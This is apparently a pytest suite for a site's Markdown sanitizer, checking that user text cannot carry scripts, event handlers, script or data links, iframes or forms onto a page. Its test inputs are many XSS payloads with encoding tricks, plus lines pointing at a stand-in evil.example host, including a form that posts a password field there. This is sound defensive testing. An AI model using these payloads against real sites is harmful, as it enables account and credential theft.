"""The one Markdown renderer: what user text may and may not put on a page.

Assertions parse the output (see tests/markup/inert.py) instead of matching
substrings, so a payload that survives in another spelling still fails. No
test here touches the database: the dialect is a leaf.
"""

import re

import pytest

from apps.markup import render_markdown
from tests.markup.inert import assert_inert, find, parse, url_scheme

# --- script ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '<script>alert("pwned")</script>',
        "<SCRIPT SRC=//evil.example/pwned.js></SCRIPT>",
        '<script type="text/javascript">\nalert("pwned");\n</script>',
        'Before <script>alert("pwned")</script> after',
        '<svg><script>alert("pwned")</script></svg>',
        '<!--[if IE]><script>alert("pwned")</script><![endif]-->',
    ],
)
def test_it_removes_script_and_its_content(text):
    html = render_markdown(text)

    assert "<script" not in html.lower()
    assert "pwned" not in html
    assert_inert(html)


def test_it_keeps_the_text_around_a_removed_script():
    html = render_markdown('Before <script>alert("pwned")</script> after')

    assert "Before" in html
    assert "after" in html
    assert "pwned" not in html


def test_it_does_not_rebuild_a_script_tag_from_split_pieces():
    html = render_markdown("<scr<script>ipt>alert(1)</script>")

    assert find(html, "script") == []
    assert_inert(html)


# --- dangerous links ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](JAVASCRIPT:alert(1))",
        "[click](java&#x09;script:alert(1))",
        "[click](java&#x0A;script:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](javascript&colon;alert(1))",
        "[click](<javascript:alert(1)>)",
        "[click](< javascript:alert(1)>)",
        "[click](\x01javascript:alert(1))",
        "[click](javascript://%0aalert(1))",
        "[click][ref]\n\n[ref]: javascript:alert(1)",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](DATA:text/html,<script>alert(1)</script>)",
        "[click](vbscript:msgbox(1))",
        "[click](VbScript:msgbox(1))",
        '<a href="javascript:alert(1)">click</a>',
        '<a href="  javascript:alert(1)">click</a>',
        '<a href="java&#x09;script:alert(1)">click</a>',
        '<a href="jav&#x0A;ascript:alert(1)">click</a>',
        '<a href="jav\nascript:alert(1)">click</a>',
        '<a href="&#x6A;&#x61;vascript:alert(1)">click</a>',
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
        '&#0000112&#0000116&#0000058alert(1)">click</a>',
        '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">click</a>',
        '<a href="vbscript:msgbox(1)">click</a>',
    ],
)
def test_it_drops_the_href_of_a_script_or_data_link(text):
    html = render_markdown(text)

    links = find(html, "a")
    assert len(links) == 1, html
    assert "href" not in links[0].attrs, html
    assert links[0].text == "click"
    assert "alert" not in html
    assert "msgbox" not in html
    assert_inert(html)


def test_a_tab_inside_the_scheme_does_not_make_a_script_link():
    # python-markdown expands the literal tab to spaces; with spaces in it,
    # "java   script:" is no scheme at all, so a browser reads a relative URL.
    html = render_markdown('<a href="java\tscript:alert(1)">click</a>')

    (link,) = find(html, "a")
    assert url_scheme(link.attrs.get("href", "")) is None
    assert_inert(html)


@pytest.mark.parametrize(
    "text",
    [
        "![pic](javascript:alert(1))",
        "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
        '<img src="javascript:alert(1)">',
        '<img srcset="javascript:alert(1)">',
    ],
)
def test_it_drops_a_script_or_data_image(text):
    html = render_markdown(text)

    assert find(html, "img") == []
    assert_inert(html)


# --- attributes -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '<img src="x" onerror="alert(1)">',
        "<img src=x onerror=alert(1)>",
        '<p onclick="alert(1)">text</p>',
        '<DIV ONCLICK="alert(1)">text</DIV>',
        "<b/onclick=alert(1)>text</b>",
        '<a href="https://ok.example" onmouseover="alert(1)">text</a>',
        '<body onload="alert(1)">text',
        '<table><tr><td onclick="alert(1)">text</td></tr></table>',
        '<video src="x" onerror="alert(1)"></video>',
        '<details open ontoggle="alert(1)">text</details>',
    ],
)
def test_it_strips_event_attributes(text):
    html = render_markdown(text)

    assert "alert" not in html
    assert not re.search(r"\son[a-z]+\s*=", html, re.IGNORECASE)
    assert_inert(html)


def test_it_keeps_the_element_when_it_strips_an_event_attribute():
    html = render_markdown('<img src="/media/uploads/a.png" onerror="alert(1)">')

    (image,) = find(html, "img")
    assert image.attrs == {"src": "/media/uploads/a.png"}


@pytest.mark.parametrize(
    "text",
    [
        '<p style="background:url(javascript:alert(1))">text</p>',
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%">text</div>',
        '<a href="https://ok.example" style="color:red">text</a>',
    ],
)
def test_it_strips_the_style_attribute(text):
    html = render_markdown(text)

    assert "style" not in html
    assert "text" in html
    assert_inert(html)


def test_it_strips_the_style_attribute_of_an_image_and_keeps_the_image():
    html = render_markdown('<img src="/media/uploads/a.png" style="width:9999px">')

    (image,) = find(html, "img")
    assert image.attrs == {"src": "/media/uploads/a.png"}
    assert_inert(html)


def test_it_removes_style_elements_and_their_content():
    html = render_markdown("<style>body { display: none }</style>\n\nVisible text.")

    assert "display" not in html
    assert "Visible text." in html
    assert_inert(html)


# --- raw HTML tricks ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '<iframe src="https://evil.example/"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<object data="https://evil.example/x.swf"></object>',
        '<object data="data:text/html,<script>alert(1)</script>"></object>',
        '<embed src="javascript:alert(1)">',
        '<svg onload="alert(1)">',
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
        '<math><maction actiontype="statusline">x</maction></math>',
        '<form action="https://evil.example/steal"><input name="password"></form>',
        '<form><button formaction="javascript:alert(1)">go</button></form>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<base href="https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "<template><img src=x onerror=alert(1)></template>",
        "<textarea><script>alert(1)</script></textarea>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<img src=x onerror=alert(1)//",
        '<a href="javascript:alert(1)"',
        '<a href="javascript:alert(1)">unclosed',
        "<div><p><b>unclosed",
        "<!-- <img src=x onerror=alert(1)> -->",
        "<!--><script>alert(1)</script>-->",
        '<h1 onclick="alert(1)">Big</h1>',
    ],
)
def test_raw_html_tricks_do_not_survive(text):
    html = render_markdown(text)

    assert_inert(html)
    # A half-written tag may stay, but only as escaped text: never inside an element.
    assert not any("alert" in str(element.attrs) for element in parse(html)), html


def test_it_drops_html_comments():
    html = render_markdown("Visible <!-- hidden note for moderators --> text")

    assert "hidden note" not in html
    assert "<!--" not in html
    assert "Visible" in html


def test_an_unclosed_tag_is_closed_and_does_not_swallow_the_page():
    html = render_markdown("<b>bold start\n\nNext paragraph")

    assert html.count("<b>") == html.count("</b>")
    assert "Next paragraph" in html


def test_a_half_written_tag_stays_text():
    html = render_markdown('<a href="javascript:alert(1)"')

    assert find(html, "a") == []
    assert "&lt;a" in html


@pytest.mark.parametrize(
    "text",
    [
        '[x](https://example.com "a" onmouseover="alert(1)")',
        "[x](https://example.com 'a\" onmouseover=\"alert(1)')",
        '[x](https://example.com "say \\"hi\\" onclick=\\"alert(1)\\"")',
        '[x][ref]\n\n[ref]: https://example.com "t" onclick="alert(1)"',
        '[x][ref]\n\n[ref]: https://example.com "t\\" onclick=\\"alert(1)"',
        '![x](/media/uploads/a.png "a" onerror="alert(1)")',
    ],
)
def test_quotes_in_a_link_title_stay_inside_the_title(text):
    html = render_markdown(text)

    for element in parse(html):
        assert set(element.attrs) <= {"href", "src", "alt", "title", "rel"}, element
    assert_inert(html)


def test_a_link_title_keeps_its_text():
    html = render_markdown('[x](https://example.com \'it"s a "quote"\')')

    (link,) = find(html, "a")
    assert link.attrs["title"] == 'it"s a "quote"'
    assert link.attrs["href"] == "https://example.com"


# --- rel ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "[site](https://example.com)",
        "<https://example.com>",
        "[mail](mailto:someone@example.com)",
        "[here](/articles/casino-night/)",
        '<a href="https://example.com">raw</a>',
        '<a href="https://example.com" rel="opener">raw</a>',
        '<a href="https://example.com" rel="" target="_blank">raw</a>',
    ],
)
def test_links_get_rel_nofollow_noopener_noreferrer_ugc(text):
    html = render_markdown(text)

    (link,) = find(html, "a")
    assert link.attrs["rel"] == "nofollow noopener noreferrer ugc"
    assert "target" not in link.attrs


# --- ids and classes ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '<p id="login" class="btn btn-primary">text</p>',
        '<h2 id="location">text</h2>',
        '<h3 id="cookie">text</h3>',
        '<a id="defaultView" name="x" href="https://e.example">text</a>',
        '<img id="cookie" name="forms" src="/media/uploads/a.png">',
        '<li id="body">text</li>',
        '<sup id="toString">text</sup>',
        '<div id="fn" class="admin">text</div>',
        '<sup id="fnref">text</sup>',
        '<h2 id="h-">text</h2>',
        '<h2 id="H-UPPER">text</h2>',
        '<h2 id="h-x y">text</h2>',
        '<h2 id="h-trailing-newline&#10;">text</h2>',
        '<li id="fn:1&#10;">text</li>',
        '<sup id="fnref:1 onclick">text</sup>',
        '<div class="footnote-fake">text</div>',
        '<a class="btn" href="https://e.example">text</a>',
        '<p class="footnote">text</p>',
    ],
)
def test_it_drops_ids_and_classes_written_by_the_user(text):
    html = render_markdown(text)

    for element in parse(html):
        assert "id" not in element.attrs, element
        assert "name" not in element.attrs, element
        assert "class" not in element.attrs, element
    assert_inert(html)


def test_it_keeps_only_the_footnote_class_from_a_class_list():
    html = render_markdown('<div class="footnote evil">text</div>')

    (div,) = find(html, "div")
    assert div.attrs["class"] == "footnote"


def test_a_heading_gets_a_prefixed_id():
    html = render_markdown("# Casino Night trivia")

    (heading,) = find(html, "h2")
    assert heading.attrs["id"] == "h-casino-night-trivia"


def test_repeated_headings_keep_their_unique_ids():
    html = render_markdown("# Trivia\n\n# Trivia\n\n# Trivia")

    assert [h.attrs.get("id") for h in find(html, "h2")] == [
        "h-trivia",
        "h-trivia_1",
        "h-trivia_2",
    ]


def test_a_heading_with_an_underscore_keeps_its_id():
    html = render_markdown("# dunder_mifflin")

    (heading,) = find(html, "h2")
    assert heading.attrs["id"] == "h-dunder_mifflin"


def test_a_heading_without_latin_letters_still_gets_an_id():
    html = render_markdown("# 日本\n\n# 日本")

    assert [h.attrs.get("id") for h in find(html, "h2")] == ["h-section", "h-section_1"]


def test_a_very_long_heading_keeps_an_id():
    html = render_markdown("# " + "word " * 60 + "\n\n# " + "word " * 60)

    ids = [h.attrs.get("id") for h in find(html, "h2")]
    assert all(ids), ids
    assert len(set(ids)) == 2


def test_footnotes_render_with_their_ids_and_classes():
    html = render_markdown("Jim kissed Pam[^1].\n\n[^1]: Season 2, episode 22.")

    (sup,) = find(html, "sup")
    assert sup.attrs["id"] == "fnref:1"
    ref = find(html, "a")[0]
    assert ref.attrs["class"] == "footnote-ref"
    assert ref.attrs["href"] == "#fn:1"
    (note_list,) = [d for d in find(html, "div") if d.attrs.get("class") == "footnote"]
    (item,) = find(html, "li")
    assert item.attrs["id"] == "fn:1"
    assert "Season 2, episode 22." in item.text
    backref = find(html, "a")[1]
    assert backref.attrs["class"] == "footnote-backref"
    assert backref.attrs["href"] == "#fnref:1"


def _assert_internal_links_resolve(html):
    ids = {element.attrs["id"] for element in parse(html) if "id" in element.attrs}
    targets = [
        a.attrs["href"][1:] for a in find(html, "a") if a.attrs.get("href", "").startswith("#")
    ]
    assert targets, html
    for target in targets:
        assert target in ids, (target, sorted(ids))


def test_every_footnote_link_points_at_an_id_on_the_page():
    html = render_markdown(
        "Named[^note], cited again[^note], numbered[^2].\n\n[^note]: A named note.\n[^2]: Two."
    )

    _assert_internal_links_resolve(html)
    assert {li.attrs.get("id") for li in find(html, "li")} == {"fn:note", "fn:2"}
    assert {s.attrs.get("id") for s in find(html, "sup")} == {
        "fnref:note",
        "fnref2:note",
        "fnref:2",
    }


def test_a_table_of_contents_links_to_the_heading_ids():
    html = render_markdown("[TOC]\n\n# One\n\n## Two\n\n# One")

    _assert_internal_links_resolve(html)
    for div in find(html, "div"):
        assert "class" not in div.attrs  # "toc" is not on the allow-list


def test_footnotes_from_one_render_do_not_leak_into_the_next():
    with_note = "Text[^1].\n\n[^1]: Note."
    first = render_markdown(with_note)
    plain = render_markdown("No notes here.")
    second = render_markdown(with_note)

    assert first == second
    assert "footnote" not in plain
    assert plain == "<p>No notes here.</p>"


# --- what Markdown must still do ------------------------------------------------------


def test_a_top_level_heading_renders_as_h2():
    html = render_markdown("# Heading")

    assert html == '<h2 id="h-heading">Heading</h2>'


def test_a_top_level_heading_becomes_a_section_heading_and_the_rest_keep_their_level():
    html = render_markdown("# A\n## B\n### C\n#### D\n##### E\n###### F")

    assert [e.tag for e in parse(html)] == ["h2", "h2", "h3", "h4", "h5", "h6"]


def test_raw_h1_becomes_a_section_heading():
    html = render_markdown("<h1>Raw title</h1>")

    assert find(html, "h1") == []
    assert [e.tag for e in parse(html)] == ["h2"]
    assert "Raw title" in html


def test_tables_render_with_alignment():
    html = render_markdown("| Season | Episode |\n|:--|--:|\n| 2 | 22 |")

    assert [e.tag for e in parse(html)] == [
        "table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td",
    ]  # fmt: skip
    cells = find(html, "th") + find(html, "td")
    assert [(c.text, c.attrs.get("align")) for c in cells] == [
        ("Season", "left"),
        ("Episode", "right"),
        ("2", "left"),
        ("22", "right"),
    ]


def test_fenced_code_stays_literal_and_escaped():
    text = '```python\n<script>alert("x")</script>\nif a < b && c > d:\n    pass\n```'

    html = render_markdown(text)

    assert html.startswith("<pre><code>")
    assert '&lt;script&gt;alert("x")&lt;/script&gt;' in html
    assert "if a &lt; b &amp;&amp; c &gt; d:\n    pass" in html
    assert find(html, "script") == []
    (code,) = find(html, "code")
    assert code.text == '<script>alert("x")</script>\nif a < b && c > d:\n    pass\n'


def test_inline_code_stays_literal_and_escaped():
    html = render_markdown("Use `<b>bold</b>` and `a && b`.")

    assert "<code>&lt;b&gt;bold&lt;/b&gt;</code>" in html
    assert "<code>a &amp;&amp; b</code>" in html
    assert find(html, "b") == []


def test_markdown_inside_fenced_code_is_not_rendered():
    html = render_markdown("```\n# not a heading\n[not](a link)\n```")

    assert find(html, "h2") == []
    assert find(html, "a") == []
    assert "# not a heading" in html


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("[site](http://example.com/path?q=1&r=2)", "http://example.com/path?q=1&r=2"),
        ("[site](https://example.com/)", "https://example.com/"),
        ("[HTTPS](HTTPS://EXAMPLE.COM/)", "HTTPS://EXAMPLE.COM/"),
        ("[mail](mailto:jim@dundermifflin.example)", "mailto:jim@dundermifflin.example"),
        ("<https://example.com/auto>", "https://example.com/auto"),
        ("[rel](/shows/the-office/)", "/shows/the-office/"),
        ("[frag](#h-trivia)", "#h-trivia"),
        ('<a href="https://example.com/raw">raw</a>', "https://example.com/raw"),
    ],
)
def test_it_keeps_http_https_mailto_and_relative_links(text, href):
    html = render_markdown(text)

    (link,) = find(html, "a")
    assert link.attrs["href"] == href


def test_it_keeps_an_uploaded_image():
    html = render_markdown('![Jim and Pam](/media/uploads/kiss.png "The kiss")')

    (image,) = find(html, "img")
    assert image.attrs == {
        "src": "/media/uploads/kiss.png",
        "alt": "Jim and Pam",
        "title": "The kiss",
    }


def test_emphasis_lists_quotes_and_breaks_still_work():
    html = render_markdown(
        "*em* **strong** ~~no~~\n\n- one\n- two\n\n3. three\n4. four\n\n> quoted\n\n---"
    )

    tags = [e.tag for e in parse(html)]
    for tag in ("em", "strong", "ul", "li", "ol", "blockquote", "hr"):
        assert tag in tags, (tag, html)
    (ordered,) = find(html, "ol")
    assert ordered.attrs == {"start": "3"}


def test_abbreviations_and_definition_lists_still_work():
    html = render_markdown("*[NBC]: National Broadcasting Company\n\nOn NBC.\n\nTerm\n: Definition")

    (abbr,) = find(html, "abbr")
    assert abbr.attrs == {"title": "National Broadcasting Company"}
    assert [e.tag for e in parse(html) if e.tag in {"dl", "dt", "dd"}] == ["dl", "dt", "dd"]


def test_plain_text_is_escaped():
    html = render_markdown("Ratings < 5 & > 2")

    assert html == "<p>Ratings &lt; 5 &amp; &gt; 2</p>"


@pytest.mark.parametrize("text", ["", None])
def test_empty_input_renders_nothing(text):
    assert render_markdown(text) == ""
